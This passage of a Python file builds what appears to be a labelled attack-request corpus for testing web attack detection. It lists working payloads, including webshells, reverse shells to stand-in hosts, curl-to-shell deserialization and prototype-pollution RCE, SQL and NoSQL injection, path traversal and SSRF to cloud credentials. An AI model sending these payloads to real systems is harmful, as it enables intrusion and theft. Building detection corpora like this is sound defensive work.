        ci=2,
        top=True,
    ),
    I("jk", obj={"$or": [{"role": "admin"}, {"_id": {"$ne": None}}]}, hard=True, ci=2, top=True, esc="$"),
    I("jk", obj={"$where": "this['pass'+'word'].match(/^a/)"}, hard=True, ci=2, top=True),
    I("jk", obj={"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}, hard=True, ci=2, top=True),
    I("q", '{"price":{"$gt":0},"$where":"sleep(3000)"}', ci=0),
    I("q", "' || '1'=='1", ci=1),
    I("q", '{"email":{"$regex":"^adm","$options":"i"}}', True, ci=2, enc="full"),
    I("q", "'; return true; var x='", True, ci=1, enc="mixed"),
    I("q", '{"username":{"$ne":null}}', True, ci=1, enc="full"),
    I("k", kv=("username[$ne]", "nobody"), ci=0),
    I("k", kv=("password[$gt]", ""), ci=0),
    I("k", kv=("role[$in][]", "admin"), hard=True, ci=2, enc="mixed"),
    I("k", kv=("price[$where]", "sleep(2000)"), ci=1),
    I("k", kv=("user[$regex]", "^a.*"), hard=True, ci=0, enc="mixed"),
    I("k", kv=("password[$ne]", "x"), hard=True, ci=0, enc="full"),
    I("k", kv=("user[password][$ne]", ""), hard=True, ci=2),
    I("f", kv=("password[$ne]", "1"), ci=0),
    I("f", kv=("user[$gt]", ""), ci=1),
    I("f", kv=("code[$gt]", ""), hard=True, ci=2, enc="full"),
    I("f", kv=("pass[$nin][]", ""), hard=True, ci=1, enc="mixed"),
    I("h", '{"owner":{"$ne":null}}', name="X-Filter"),
    I(
        "h",
        '{"$where":"function(){var d=new Date();do{c=new Date()}while(c-d<4000);return true}"}',
        True,
        name="X-Query",
    ),
    I("c", 'j:{"$gt":""}', name="session_user"),
    I("c", 'j:{"\\u0024ne":null}', True, name="session_user"),
    I("m", '{"owner":{"$ne":null}}', ci=0),
    I("m", '{"\\u0024where":"sleep(2000)"}', True, ci=0),
    I("x", "admin' || '1'=='1", ci=0),
    I("x", "' || this.password.match(/.*/) || '", True, ci=0, xm="ent"),
]

# ---------------------------------------------------------------- path_traversal
CX["path_traversal"] = dict(
    q=[
        ("GET", "/api/v1/files/download", "path"),
        ("GET", "/download", "file"),
        ("GET", "/api/v2/templates/render", "template"),
        ("GET", "/static/view", "page"),
        ("GET", "/api/v1/logs", "name"),
    ],
    k=[("GET", "/api/v1/files/bulk"), ("GET", "/api/v1/archive")],
    j=[
        ("POST", "/api/v1/export", "output_path", {"format": "xlsx"}),
        ("POST", "/api/v1/themes/preview", "template", {"vars": {"title": "Spring sale"}}),
        ("PUT", "/api/v1/attachments/88/move", "destination", {"overwrite": False}),
        ("POST", "/api/v2/reports/load", "file", {"cache": True}),
    ],
    f=[
        ("POST", "/admin/templates/edit", "tpl", [("action", "load")]),
        ("POST", "/image/resize", "src", [("w", "320"), ("h", "240")]),
    ],
    p=[("GET", "/static/", ""), ("GET", "/api/v1/files/", ""), ("GET", "/assets/", "")],
    h=["Accept-Language", "X-Template", "X-File-Path"],
    c=["lang", "theme", "template"],
    m=[
        ("POST", "/api/v1/uploads", "file", "filename", [("album", "trip-2026")]),
        ("POST", "/api/v1/documents", "path", "text", [("title", "Q4 plan")]),
    ],
    x=[("POST", "/api/v1/reports/generate", "report", "templatePath")],
)
ITEMS["path_traversal"] = [
    I("q", "../../../../etc/passwd", ci=0),
    I("q", "..\\..\\..\\windows\\win.ini", ci=1),
    I("q", "../../../app/config/database.yml", ci=2),
    I("q", "../../../../proc/self/environ", ci=3),
    I("q", "../../../../var/log/nginx/access.log", ci=4),
    I("q", "/etc/shadow", ci=0),
    I("j", "../../../../var/www/html/shell.php", ci=0),
    I("j", "../../../../root/.ssh/id_rsa", ci=1),
    I("j", "../../../../etc/cron.d/backdoor", ci=2),
    I("j", "..\\..\\..\\..\\Windows\\System32\\config\\SAM", ci=3),
    I("f", "../../../../../etc/passwd", ci=0),
    I("f", "/var/www/app/../../../etc/hosts", ci=1),
    I("p", "../../../etc/passwd", ci=0, slash=True),
    I("h", "../../../../../../etc/passwd", name="Accept-Language"),
    I("c", "../../../../etc/passwd", name="lang"),
    I("c", "../../../config/secrets.yml", name="theme"),
    I("m", "../../../../var/www/html/shell.php", ci=0, mk="filename", ext="txt"),
    I("m", "..\\..\\..\\inetpub\\wwwroot\\cmd.aspx", ci=0, mk="filename", ext="txt"),
    I("m", "../../../home/app/.aws/credentials", ci=1),
    I("x", "../../../../etc/passwd", ci=0),
    I("k", kv=("paths[]", "../../../../etc/shadow"), ci=0),
    I("q", "..%252f..%252f..%252fetc%252fpasswd", True, ci=0, enc="raw"),
    I("q", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", True, ci=1, enc="raw"),
    I("q", "..%u2216..%u2216..%u2216windows%u2216win.ini", True, ci=1, enc="raw"),
    I("q", "....//....//....//etc/passwd", True, ci=2),
    I("q", "..././..././..././etc/passwd", True, ci=3),
    I("q", "../../../etc/passwd\x00.log", True, ci=4),
    I("q", "../../../../etc/issue", True, ci=0, enc="full"),
    I("q", "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd", True, ci=3),
    I("j", "../../../../etc/passwd", True, ci=0, esc="./"),
    I("j", "../../../../../proc/self/cwd/config.py", True, ci=1, esc="/"),
    I("j", "..//..//..//..//etc//passwd", True, ci=2),
    I("j", "....\\\\....\\\\....\\\\windows\\\\win.ini", True, ci=3),
    I("f", "../../../../etc/group", True, ci=0, enc="mixed"),
    I("f", "..;/..;/WEB-INF/web.xml", True, ci=1),
    I("p", "..;/..;/..;/WEB-INF/web.xml", True, ci=0, enc="raw"),
    I("p", "../../../etc/passwd", True, ci=1, wire="%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    I("p", "..\\..\\..\\windows\\win.ini", True, ci=2, wire="..%5c..%5c..%5cwindows%5cwin.ini"),
    I("p", "../../../../etc/passwd", True, ci=0, wire=".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    I("h", "..%2f..%2f..%2fetc%2fpasswd", True, name="X-File-Path"),
    I("c", "../../../../etc/passwd", True, name="template", enc="full"),
    I("m", "....//....//var/www/html/s.php", True, ci=0, mk="filename", ext="txt"),
    I("x", "../../../../etc/shadow", True, ci=0, xm="ent"),
    I("k", kv=("files[]", "..%c0%af..%c0%af..%c0%afetc/passwd"), hard=True, enc="raw", ci=1),
]


# ---------------------------------------------------------------- php_injection
def php_ser(v):
    if isinstance(v, bool):
        return "b:%d;" % int(v)
    if isinstance(v, int):
        return "i:%d;" % v
    if isinstance(v, str):
        return 's:%d:"%s";' % (len(v.encode("utf-8")), v)
    if isinstance(v, tuple):  # ("O", class, [(prop, value), ...])
        _, cls, props = v
        return 'O:%d:"%s":%d:{%s}' % (len(cls), cls, len(props), "".join(php_ser(k) + php_ser(x) for k, x in props))
    if isinstance(v, list):
        return "a:%d:{%s}" % (len(v), "".join(php_ser(k) + php_ser(x) for k, x in v))
    raise TypeError(v)


def laravel_gadget(cmd):
    gen = ("O", "Faker\\Generator", [("\x00*\x00formatters", [("dispatch", "system")])])
    return php_ser(
        ("O", "Illuminate\\Broadcasting\\PendingBroadcast", [("\x00*\x00events", gen), ("\x00*\x00event", cmd)])
    )


def bnot(s):
    return "".join("%%%02X" % (~ord(c) & 0xFF) for c in s)


CX["php_injection"] = dict(
    q=[
        ("GET", "/index.php", "lang"),
        ("GET", "/tools/calc.php", "expr"),
        ("GET", "/wp-admin/admin-ajax.php", "callback"),
        ("GET", "/search.php", "sort"),
    ],
    k=[("GET", "/index.php"), ("GET", "/plugins/hooks.php")],
    j=[
        ("POST", "/wp-json/calc/v1/eval", "expression", {"precision": 2}),
        ("POST", "/api/v1/settings/import", "serialized", {"version": "3.2"}),
        ("PUT", "/wp-json/acme/v1/settings", "custom_footer", {"title": "My shop"}),
        ("POST", "/api/v1/hooks/filter", "callback", {"args": ["id"]}),
    ],
    f=[
        ("POST", "/calc.php", "formula", [("submit", "Calculate")]),
        ("POST", "/guestbook.php", "message", [("name", "visitor")]),
        ("POST", "/wp-admin/admin-ajax.php", "data", [("action", "acme_save")]),
    ],
    p=[("GET", "/index.php/", ""), ("GET", "/page/", "")],
    h=["User-Agent", "X-Forwarded-For", "Referer"],
    c=["prefs", "cart"],
    m=[
        ("POST", "/upload.php", "file", "content", [("submit", "Upload")]),
        (
            "POST",
            "/wp-admin/async-upload.php",
            "async-upload",
            "content",
            [("name", "pic.jpg"), ("action", "upload-attachment")],
        ),
    ],
    x=[("POST", "/api/v1/import.php", "record", "note")],
)
ITEMS["php_injection"] = [
    I("m", "<?php system($_GET['c']); ?>", ci=0, fn="shell.php", mpct="application/x-php"),
    I("m", "<?php @eval($_POST['pass']);?>", ci=1, fn="cache.php", mpct="application/octet-stream"),
    I("h", "<?php system($_GET['cmd']); ?>", name="User-Agent"),
    I("h", "<?php passthru('id'); ?>", name="Referer"),
    I("q", "phpinfo()", ci=1),
    I("q", "system('id')", ci=1),
    I("q", "call_user_func('system','id')", ci=2),
    I("q", "data://text/plain;base64," + b64("<?php system('id'); ?>"), ci=0),
    I("q", "expect://id", ci=0),
    I("j", "system('cat /etc/passwd');", ci=0),
    I("j", "file_put_contents('s.php','<?php system($_GET[0]);')", ci=0),
    I("j", "<?php echo shell_exec('id'); ?>", ci=2),
    I("j", "array_map('system',['id'])", ci=3),
    I("j", laravel_gadget("id"), ci=1),
    I("f", "1;system('id')", ci=0),
    I("f", "\";system('id');//", ci=1),
    I("k", kv=("hooks[system]", "id"), ci=1),
    I("x", "<?php system('id'); ?>", ci=0),
    I("c", laravel_gadget("curl 203.0.113.9/l|sh"), name="prefs"),
    I("p", "<?php system($_GET['c']);?>", ci=1),
    I("q", "phar://uploads/avatar.jpg/x", ci=0),
    I("j", "passthru($_SERVER['HTTP_X_CMD']);", ci=0),
    I("m", "GIF89a<?php echo shell_exec($_REQUEST['x']); ?>", True, ci=1, fn="avatar.gif.php", mpct="image/gif"),
    I("h", "<?=`id`?>", True, name="X-Forwarded-For"),
    I("q", "sYsTeM('id')", True, ci=1),
    I("q", "(~%s)(~%s);" % (bnot("system"), bnot("id")), True, ci=1, enc="raw"),
    I("q", "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"('id');", True, ci=1),
    I("q", "str_rot13('flfgrz')('id')", True, ci=3),
    I("j", "$f='sys'.'tem';$f('id');", True, ci=0),
    I("j", '("sy"."stem")("id");', True, ci=0),
    I("j", "eval(base64_decode('%s'));" % b64("system('id');"), True, ci=0),
    I("j", "hex2bin('73797374656d')('cat /etc/passwd');", True, ci=0),
    I("j", "\\system/**/('id');", True, ci=0),
    I("j", "<?PhP SySTeM('id'); ?>", True, ci=2),
    I("j", "strrev('metsys')('id')", True, ci=3),
    I("j", "implode('',['sys','tem'])('whoami');", True, ci=0),
    I("f", "$_GET['a']($_GET['b']);", True, ci=0),
    I("f", "preg_replace('/.*/e','system(\"id\")','x');", True, ci=2),
    I("f", "base64_decode('c3lzdGVt')('id');", True, ci=1, enc="mixed"),
    I("c", b64(laravel_gadget("id")), True, name="cart"),
    I("m", "<?=`$_GET[0]`?>", True, ci=0, fn="x.phtml", mpct="application/octet-stream"),
    I("m", "auto_prepend_file=avatar.jpg", True, ci=0, fn=".user.ini", mpct="text/plain"),
    I("p", "<?php passthru(base64_decode('aWQ='));?>", True, ci=0, enc="mixed"),
    I("x", "<?php echo `id`; ?>", True, ci=0, xm="cdata"),
]

# ---------------------------------------------------------------- prototype_pollution
CX["prototype_pollution"] = dict(
    q=[("GET", "/api/v1/search", "opts"), ("GET", "/api/v2/widgets", "merge")],
    k=[("GET", "/api/v1/search"), ("GET", "/"), ("GET", "/api/v2/items")],
    j=[
        ("PATCH", "/api/v1/users/me/settings", "preferences", {"theme": "dark"}),
        ("POST", "/api/v1/cart/merge", "cart", {"source": "guest"}),
        ("PUT", "/api/v2/projects/812/config", "config", {"name": "website"}),
        ("POST", "/api/v1/profile", "profile", {"locale": "en"}),
        ("POST", "/api/v1/settings/set", "path", {"value": True}),
    ],
    f=[
        ("POST", "/account/preferences", "theme", [("csrf", CSRF)]),
        ("POST", "/api/v1/forms/contact", "name", [("email", "a@example.com")]),
    ],
    h=["X-Client-Config", "X-Feature-Overrides"],
    c=["prefs", "ui_state"],
    m=[("POST", "/api/v1/forms/submit", "note", "text", [("form_id", "contact")])],
    xd=[("POST", "/api/v1/import/xml"), ("PUT", "/api/v1/settings.xml")],
)
_jp = [{"op": "add", "path": SENT, "value": True}]
_xpp = '<?xml version="1.0" encoding="UTF-8"?>\n<settings>\n  <theme>dark</theme>\n  %s\n</settings>'
ITEMS["prototype_pollution"] = [
    I("jk", obj={"__proto__": {"isAdmin": True}}, ci=0),
    I("jk", obj={"constructor": {"prototype": {"isAdmin": True}}}, ci=1),
    I("jk", obj={"__proto__": {"role": "admin"}}, ci=3, top=True),
    I(
        "jk",
        obj={
            "__proto__": {
                "outputFunctionName": "x;process.mainModule.require('child_process').execSync('curl 203.0.113.5/e|sh');x"
            }
        },
        ci=2,
    ),
    I(
        "jk",
        obj={
            "__proto__": {
                "client": True,
                "escapeFunction": "1;return global.process.mainModule.constructor._load('child_process').execSync('id')",
            }
        },
        ci=2,
    ),
    I(
        "jk",
        obj={
            "__proto__": {
                "block": {"type": "Text", "line": "process.mainModule.require('child_process').execSync('id')"}
            }
        },
        ci=0,
    ),
    I(
        "jk",
        obj={
            "__proto__": {
                "shell": "/proc/self/exe",
                "argv0": "console.log(require('child_process').execSync('id').toString())//",
                "NODE_OPTIONS": "--require /proc/self/cmdline",
            }
        },
        ci=3,
    ),
    I("jk", obj={"__proto__": {"status": 510}}, ci=1),
    I("jk", obj={"__proto__": {"json spaces": 10}}, ci=1),
    I("jk", obj={"__proto__": {"credentials": True, "origin": "https://evil.example"}}, ci=2),
    I(
        "jk",
        obj={"__proto__": {"allowedTags": ["script", "img"], "allowedAttributes": {"*": ["onerror", "onload"]}}},
        ci=3,
    ),
    I("j", "__proto__.isAdmin", ci=4),
    I("j", "constructor.prototype.verified", ci=4),
    I("j", "/__proto__/isAdmin", ctx=("PATCH", "/api/v1/documents/55"), doc=_jp, ct="application/json-patch+json"),
    I("k", kv=("__proto__[isAdmin]", "true"), ci=0),
    I("k", kv=("constructor[prototype][role]", "admin"), ci=1),
    I("k", kv=("__proto__.isAdmin", "true"), ci=2),
    I("f", kv=("__proto__[admin]", "1"), ci=0),
    I("c", 'j:{"__proto__":{"isAdmin":true}}', name="prefs"),
    I("h", '{"__proto__":{"debug":true,"isAdmin":true}}', name="X-Client-Config"),
    I("m", kv=("__proto__[role]", "admin"), ci=0),
    I(
        "x",
        "<__proto__><isAdmin>true</isAdmin></__proto__>",
        xdoc=_xpp % "<__proto__><isAdmin>true</isAdmin></__proto__>",
        ci=0,
    ),
    I("jk", obj={"__proto__": {"isAdmin": True}}, hard=True, ci=3, top=True, esc="_"),
    I("jk", obj={"constructor": {"prototype": {"isAdmin": True}}}, hard=True, ci=0, esc_all=True),
    I("jk", obj={"__pro__proto__to__": {"isAdmin": True}}, hard=True, ci=1),
    I(
        "jk",
        obj={
            "constructor": {
                "prototype": {
                    "outputFunctionName": "_tmp1;global.process.mainModule.require('child_process').exec('bash -c \"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\"');var __tmp2"
                }
            }
        },
        hard=True,
        ci=2,
    ),
    I("jk", obj={"layout": {"sidebar": {"__proto__": {"isAdmin": True}}}}, hard=True, ci=0),
    I(
        "jk",
        obj={
            "__proto__": {
                "sourceURL": "\u2028\u2029\nglobal.process.mainModule.require('child_process').execSync('id')"
            }
        },
        hard=True,
        ci=2,
    ),
    I(
        "jk",
        obj={
            "__proto__": {
                "type": "Program",
                "body": [
                    {
                        "type": "MustacheStatement",
                        "path": 0,
                        "params": [
                            {
                                "type": "NumberLiteral",
                                "value": "process.mainModule.require('child_process').execSync('id')",
                            }
                        ],
                        "loc": {"start": 0, "end": 0},
                    }
                ],
            }
        },
        hard=True,
        ci=2,
    ),
    I("j", "__proto__[isAdmin]", True, ci=4),
    I("j", "__proto__.polluted", True, ci=4, esc="_."),
    I(
        "j",
        "/constructor/prototype/isAdmin",
        True,
        ctx=("PATCH", "/api/v1/documents/91"),
        doc=_jp,
        ct="application/json-patch+json",
    ),
    I("j", '{"__proto__":{"isAdmin":true}}', True, ci=0, name="settings_json"),
    I("q", '{"__proto__":{"isAdmin":true}}', True, ci=0, enc="mixed"),
    I("q", '{"constructor":{"prototype":{"admin":true}}}', True, ci=1, enc="full"),
    I("k", kv=("__proto__[isAdmin]", "true"), hard=True, ci=1, enc="full"),
    I("k", kv=("a[constructor][prototype][isAdmin]", "true"), hard=True, ci=2),
    I("k", kv=("__pro__proto__to__[isAdmin]", "1"), hard=True, ci=0),
    I("f", kv=("constructor[prototype][isAdmin]", "1"), hard=True, ci=0, enc="mixed"),
    I("f", kv=("__proto__.role", "admin"), hard=True, ci=1, enc="full"),
    I("c", 'j:{"constructor":{"prototype":{"isAdmin":true}}}', True, name="ui_state", enc="full"),
    I("h", '{"\\u005f\\u005fproto\\u005f\\u005f":{"beta":true,"isAdmin":true}}', True, name="X-Feature-Overrides"),
    I("m", kv=("constructor[prototype][isAdmin]", "true"), hard=True, ci=0),
    I(
        "x",
        "<constructor><prototype><isAdmin>true</isAdmin></prototype></constructor>",
        True,
        xdoc=_xpp % "<constructor><prototype><isAdmin>true</isAdmin></prototype></constructor>",
        ci=1,
    ),
]

# ---------------------------------------------------------------- rfi
CX["rfi"] = dict(
    q=[
        ("GET", "/index.php", "page"),
        ("GET", "/index.php", "lang"),
        ("GET", "/template.php", "tpl"),
        ("GET", "/modules/loader.php", "module"),
        ("GET", "/view", "include"),
    ],
    k=[("GET", "/index.php"), ("GET", "/portal/main.php")],
    j=[
        ("POST", "/wp-json/acme/v1/render", "template", {"post_id": 42}),
        ("PUT", "/api/v1/pages/home", "layout_include", {"title": "Home"}),
        ("POST", "/api/v1/plugins/load", "plugin_path", {"enabled": True}),
    ],
    f=[
        ("POST", "/index.php", "page", [("submit", "Go")]),
        ("POST", "/admin/config.php", "include_path", [("save", "1")]),
    ],
    p=[("GET", "/index.php/page/", ""), ("GET", "/load/", "")],
    h=["X-Include-Path", "X-Template-Source"],
    c=["lang", "template", "skin"],
    m=[("POST", "/admin/import.php", "include", "text", [("mode", "remote")])],
    x=[("POST", "/api/v1/layouts", "layout", "include")],
)
RF = "203.0.113.20"
ITEMS["rfi"] = [
    I("q", "http://%s/shell.txt" % RF, ci=0),
    I("q", "https://paste.evilcdn.example/raw/Xk29aQ", ci=1),
    I("q", "ftp://anonymous@198.51.100.7/pub/sh.php", ci=2),
    I("q", "http://c2.attacker.example/c99.txt", ci=3),
    I("q", "https://raw.githubusercontent.com/attacker-x/payloads/main/rev.php", ci=4),
    I("q", "data://text/plain;base64," + b64("<?php system($_GET['cmd']);?>"), ci=0),
    I("q", "https://%s:8443/modules/admin.inc" % RF, ci=3),
    I("j", "http://%s/tpl/evil.php" % RF, ci=0),
    I("j", "https://cdn.attacker.example/layouts/main.txt", ci=1),
    I("j", "http://198.51.100.7/plugins/backdoor.php", ci=2),
    I("j", "ftps://198.51.100.7/pub/x.php", ci=1),
    I("f", "http://%s/x.txt" % RF, ci=0),
    I("f", "http://c2.attacker.example/inc/", ci=1),
    I("f", "https://pastebin.example/raw/8ZhQz1cN", ci=0),
    I("c", "http://%s/en.txt" % RF, name="lang"),
    I("c", "https://attacker.example/skins/dark.php", name="skin"),
    I("h", "http://%s/inc.php" % RF, name="X-Include-Path"),
    I("m", "http://%s/import.txt" % RF, ci=0),
    I("x", "http://%s/layout.php" % RF, ci=0),
    I("k", kv=("include[]", "http://%s/a.txt" % RF), ci=0),
    I("p", "http://%s/shell.txt" % RF, ci=1),
    I("q", "http://attacker.example/mod.php", ci=4),
    I("q", "http://%s/shell.txt?" % RF, True, ci=0),
    I("q", "http://%s/shell.txt\x00" % RF, True, ci=1),
    I("q", "\\\\198.51.100.7\\share\\shell.php", True, ci=2),
    I("q", "HtTp://%s/x.txt" % RF, True, ci=3),
    I("q", "http://0xcb007114/sh.txt", True, ci=4),
    I("q", "http://3405803796/sh.txt", True, ci=0),
    I("q", "http%%253A%%252F%%252F%s%%252Fsh.txt" % RF, True, ci=1, enc="raw"),
    I("q", "http://attacker.example/shell.txt#", True, ci=2),
    I("q", "http://attacker.example/shell.txt?.jpg", True, ci=3),
    I("q", "https://attacker.example/x.php", True, ci=4, enc="full"),
    I("j", "jar:http://%s/evil.jar!/tpl.jsp" % RF, True, ci=0),
    I("j", "http://%s/t.php" % RF, True, ci=1, esc="/:"),
    I("j", "http://trusted-cdn.mintbarrow.io@%s/p.php" % RF, True, ci=2),
    I("j", "data:text/plain,<?php system($_GET['c']);?>", True, ci=0),
    I("f", "http://%s/inc.txt" % RF, True, ci=1, enc="mixed"),
    I("f", "HTTP://C2.ATTACKER.EXAMPLE/SHELL.TXT", True, ci=0),
    I("c", "http://%s/t.txt?" % RF, True, name="template", enc="full"),
    I("h", "hTtPs://%s/tpl.txt?" % RF, True, name="X-Template-Source"),
    I("m", "\\\\%s@SSL\\webdav\\sh.php" % RF, True, ci=0),
    I("x", "http://%s/l.php" % RF, True, ci=0, xm="ent"),
    I("k", kv=("page[]", "http://%s/s.txt?" % RF), hard=True, ci=1),
    I("p", "https://attacker.example/p.txt?", True, ci=0, enc="mixed"),
]

# ---------------------------------------------------------------- sqli
CX["sqli"] = dict(
    q=[
        ("GET", "/api/v1/products", "id"),
        ("GET", "/api/v2/orders", "sort"),
        ("GET", "/search", "q"),
        ("GET", "/api/v1/users", "email"),
        ("DELETE", "/api/v1/sessions", "token"),
        ("GET", "/api/v1/reports", "category"),
    ],
    k=[("GET", "/api/v1/products"), ("GET", "/api/v2/reports/export")],
    j=[
        ("POST", "/api/v1/auth/login", "username", {"password": "Summer2026!"}),
        ("POST", "/api/v2/reports/query", "filter.region", {"metric": "revenue", "period": "2026-Q3"}),
        ("PUT", "/api/v1/inventory/items/sku-2291", "warehouse", {"qty": 40}),
        ("POST", "/api/v1/coupons/validate", "code", {"cart_id": "c_91a2"}),
        ("PATCH", "/api/v1/tickets/8812", "assignee", {"priority": "high"}),
    ],
    f=[
        ("POST", "/login", "username", [("password", "x")]),
        ("POST", "/account/address", "zip", [("city", "Leeds")]),
        ("POST", "/search", "keywords", [("cat", "all")]),
    ],
    p=[("GET", "/api/v1/products/", ""), ("GET", "/api/v1/users/", "/orders"), ("DELETE", "/api/v1/comments/", "")],
    h=["X-Forwarded-For", "User-Agent", "Referer", "X-Tenant-ID", "X-Device-Id"],
    c=["session_id", "tracking", "currency", "cart_id"],
    m=[("POST", "/api/v1/applications", "last_name", "text", [("first_name", "Sam")])],
    x=[
        ("POST", "/services/UserService", "soap:GetUser", "username"),
        ("POST", "/api/v1/orders/import", "order", "customerId"),
    ],
)
_gq = {
    "operationName": "GetUser",
    "query": "query GetUser($id: ID!) { user(id: $id) { id email createdAt } }",
    "variables": {"id": SENT},
}
ITEMS["sqli"] = [
    I("q", "1 UNION SELECT username, password FROM users--", ci=0),
    I("q", "' UNION SELECT NULL,table_name,NULL FROM information_schema.tables-- -", ci=2),
    I("q", "x'; DROP TABLE sessions;--", ci=4),
    I("q", "(CASE WHEN (SELECT substring(password,1,1) FROM users WHERE id=1)='a' THEN name ELSE price END)", ci=1),
    I("j", "EU' UNION SELECT email,password_hash,NULL FROM customers--", ci=1),
    I("j", "1 AND updatexml(1,concat(0x7e,(SELECT user())),1)", ci=2),
    I("j", "SPRING26' AND 1=CONVERT(int,(SELECT @@version))--", ci=3),
    I("j", "'; EXEC xp_cmdshell 'whoami'--", ci=4),
    I("j", "EU' || (SELECT UTL_INADDR.get_host_name('x.oast.example') FROM dual) || '", ci=1),
    I("j", "1' OR '1'='1", ctx=("POST", "/graphql"), doc=_gq),
    I("f", "admin' OR '1'='1", ci=0),
    I("f", "LS1 4AB' WAITFOR DELAY '0:0:5'--", ci=1),
    I("f", "shoes' UNION SELECT sql FROM sqlite_master--", ci=2),
    I("h", "127.0.0.1' AND SLEEP(5)-- -", name="X-Forwarded-For"),
    I("h", "Mozilla/5.0' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -", name="User-Agent"),
    I("h", "https://www.google.com/' AND extractvalue(1,concat(0x7e,version()))-- -", name="Referer"),
    I("c", "abc123' OR '1'='1", name="session_id"),
    I("p", "1 OR 1=1", ci=0),
    I("x", "admin' OR '1'='1", ci=0),
    I("m", "Smith'; DROP TABLE applicants;--", ci=0),
    I("k", kv=("sort[name' OR 1=1--]", "asc"), ci=0),
    I("q", "1'/**/UNION/**/SELECT/**/password/**/FROM/**/users--", True, ci=0),
    I("q", "1' UnIoN SeLeCt 1,2,3-- -", True, ci=2),
    I("q", "1'/*!50000UNION*//*!50000SELECT*/1,2,group_concat(password) FROM users-- -", True, ci=0),
    I("q", "1'\nunion\nselect 1,2,group_concat(password) from users#", True, ci=2, enc="mixed"),
    I("q", "1%2527%2520OR%25201%253D1--", True, ci=0, enc="raw"),
    I("q", "' UNION SELECT 1,load_file(0x%s)-- -" % "/etc/passwd".encode().hex(), True, ci=3),
    I("q", "1' and sleep(5) -- ", True, ci=5, enc="plus"),
    I("j", "admin' OR 1=1--", True, ci=0, esc="' ="),
    I("j", "admin\uff07--", True, ci=0),
    I("j", "1' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- -", True, ci=2),
    I("j", "1;SELECT $$a$$||pg_sleep(5)--", True, ci=3),
    I("j", "';DECLARE @q VARCHAR(99);SET @q=0x%s;EXEC master..xp_cmdshell @q--" % "whoami".encode().hex(), True, ci=4),
    I("j", "EU'\tOR\t1=1--", True, ci=1),
    I("j", "EU'/**/oR/**/'x'LIKE'x", True, ci=1),
    I("f", "admin'-- -", True, ci=0, enc="full"),
    I("f", "shoes'\tunion\tselect\t1,version()--", True, ci=2, enc="mixed"),
    I("h", "acme'/**/AND/**/1=(SELECT/**/1/**/FROM/**/pg_sleep(5))--", True, name="X-Tenant-ID"),
    I("c", "1' AND SLEEP(5)#", True, name="tracking", enc="full"),
    I("c", "EUR'/*!UNION*/SELECT/**/1,2-- -", True, name="currency"),
    I("p", "1 UNION SELECT password FROM users", True, ci=1, enc="mixed"),
    I("x", "admin' OR '1'='1' --", True, ci=0, xm="ent"),
    I("x", "1' UNION SELECT card_number FROM payments--", True, ci=1, xm="cdata"),
    I("k", kv=("filter[id]", "1 UnIoN SeLeCt null,password FROM users"), hard=True, ci=1),
]

# ---------------------------------------------------------------- ssrf
CX["ssrf"] = dict(
    q=[
        ("GET", "/api/v1/link-preview", "url"),
        ("GET", "/api/v2/images/proxy", "src"),
        ("GET", "/api/v1/feeds/fetch", "feed"),
        ("GET", "/api/v1/pdf/render", "page_url"),
        ("GET", "/proxy", "target"),
    ],
    k=[("GET", "/api/v1/link-preview/batch"), ("GET", "/api/v1/health/check")],
    j=[
        (
            "POST",
            "/api/v1/webhooks",
            "url",
            {"events": ["order.created", "order.paid"], "secret": "whsec_" + alnum(24)},
        ),
        ("POST", "/api/v1/imports/from-url", "source_url", {"format": "csv"}),
        ("PUT", "/api/v1/users/me/avatar", "avatar_url", {"crop": "square"}),
        ("POST", "/api/v2/integrations/slack", "callback_url", {"channel": "#ops"}),
        ("POST", "/api/v1/oembed", "url", {"maxwidth": 640}),
        ("PATCH", "/api/v1/sso/config", "metadata_url", {"provider": "saml"}),
    ],
    f=[
        ("POST", "/admin/feeds/add", "feed_url", [("title", "Industry news")]),
        ("POST", "/profile/avatar", "image_url", [("csrf", CSRF)]),
    ],
    p=[("GET", "/api/v1/proxy/", ""), ("GET", "/thumb/", "/300x200")],
    h=["X-Forwarded-Host", "X-Callback-Url", "X-Webhook-Url", "Referer"],
    c=["avatar_src", "return_url"],
    m=[("POST", "/api/v1/media/import", "url", "text", [("album", "press")])],
    x=[("POST", "/api/v1/sitemaps/ping", "sitemap", "loc"), ("POST", "/services/Fetcher", "soap:Fetch", "uri")],
)
_gopher = (
    "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0A"
    "SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20203.0.113.5/c|sh%5Cn%22%0D%0ASAVE%0D%0A"
)
ITEMS["ssrf"] = [
    I("q", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", ci=0),
    I("q", "http://127.0.0.1:8080/admin", ci=1),
    I("q", "http://10.0.0.5:9200/_cat/indices?v", ci=2),
    I("q", "file:///etc/passwd", ci=3),
    I("q", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", ci=4),
    I("q", "http://169.254.169.254/opc/v1/instance/", ci=0),
    I("q", "http://metadata.tencentyun.com/latest/meta-data/", ci=3),
    I("j", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", ci=0),
    I("j", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", ci=1),
    I("j", "http://100.100.100.200/latest/meta-data/ram/security-credentials/", ci=2),
    I("j", "http://169.254.170.2/v2/credentials/", ci=3),
    I("j", "http://localhost:2375/containers/json", ci=4),
    I("j", "http://127.0.0.1:8500/v1/agent/self", ci=5),
    I("f", _gopher, ci=0),
    I("f", "dict://127.0.0.1:11211/stats", ci=1),
    I("h", "http://169.254.169.254/latest/meta-data/", name="Referer"),
    I("h", "http://10.0.12.7:8080/internal/jobs", name="X-Callback-Url"),
    I("c", "http://192.168.1.1/cgi-bin/luci", name="avatar_src"),
    I("m", "http://127.0.0.1:9000/minio/admin/v3/info", ci=0),
    I("x", "http://169.254.169.254/latest/user-data", ci=0),
    I("k", kv=("urls[]", "http://127.0.0.1:15672/api/users"), ci=0),
